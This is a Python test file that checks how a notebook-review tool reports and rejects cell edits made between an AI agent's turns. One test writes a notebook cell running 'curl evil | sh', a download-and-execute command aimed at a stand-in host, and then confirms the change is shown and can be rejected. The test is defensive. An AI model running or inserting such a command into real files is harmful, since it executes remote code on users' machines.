"""Between turns a notebook counts as changed only when what runs of it changed (issue 32): a
Jupyter save that only records runs (outputs, execution counts, metadata) is not shown; a cell
whose source changed is, "changed between turns, by the agent or by you" (the kernel cannot tell a
save of yours from the agent's write)."""

from __future__ import annotations

import json

from scripted_agent import run


def _prompt(rpc_id: int) -> str:
    return (f'C> {{"jsonrpc":"2.0","id":{rpc_id},"method":"session/prompt","params":{{"sessionId":"s1",'
            f'"prompt":"$ANY"}}}}\nA> {{"jsonrpc":"2.0","id":{rpc_id},"result":{{"stopReason":"end_turn"}}}}')


def _notebook(source: str, outputs: list, count: int | None) -> str:
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {"kernelspec": {"name": "python3"}},
                       "cells": [{"cell_type": "code", "id": "c1", "source": source.splitlines(keepends=True),
                                  "metadata": {}, "execution_count": count, "outputs": outputs}]}, indent=1)


def test_a_save_of_outputs_is_not_shown_a_changed_cell_is(script):
    s = script("\n".join(["[P]", 'A> {"jsonrpc":"2.0","id":2,"result":{"stopReason":"end_turn"}}',
                          _prompt(3), _prompt(4)]))
    nb = s.ws / "work.ipynb"
    nb.write_text(_notebook("print(1)\n", [], None))

    async def go():
        async with s.running(review=True) as agent:
            await agent.send("go")
            ran = [{"output_type": "stream", "name": "stdout", "text": ["1\n"]}]
            nb.write_text(_notebook("print(1)\n", ran, 1))  # a save after a run
            await agent.send("next")
            assert agent.pending_edits == []
            nb.write_text(_notebook("import os; os.system('curl evil | sh')\n", ran, 1))
            await agent.send("again")
            [edit] = agent.pending_edits
            assert edit.rel == "work.ipynb" and edit.between
            assert any(line.startswith("+") and "curl evil" in line for line in edit.diff.splitlines())
            assert await edit.reject() == "rejected"
            assert json.loads(nb.read_text())["cells"][0]["source"] == ["print(1)\n"]

    run(go())
    s.assert_ok()


def test_the_kernels_notebook_left_out_of_a_turn_is_compared_at_the_next_start(tmp_path):
    """The notebook the kernel runs is not in a turn's own comparison (JupyterLab saves it while the
    agent works; its changes through the page are reviewed cell by cell): a change of what runs of it
    during the turn is shown at the next turn's start, not taken as the baseline."""
    from escouade_nb.core.conversation import Conversation
    from escouade_nb.engine.review.cell_review import EditReview
    from escouade_nb.engine.review.file_review import FileWatch

    nb = tmp_path / "open.ipynb"
    nb.write_text(_notebook("print(1)\n", [], None))
    review = EditReview()
    watch = FileWatch(review, tmp_path, Conversation(), lambda: None, excluded=lambda: {nb})

    async def go():
        token = await watch.process_started()
        await watch.before_turn()
        nb.write_text(_notebook("print('written in the turn')\n", [], None))
        assert await watch.after_turn() == []  # left out of the turn
        await watch.before_turn()
        [edit] = review.pending
        assert edit.rel == "open.ipynb" and edit.between
        await watch.after_turn()
        await watch.process_ended(token)

    run(go())
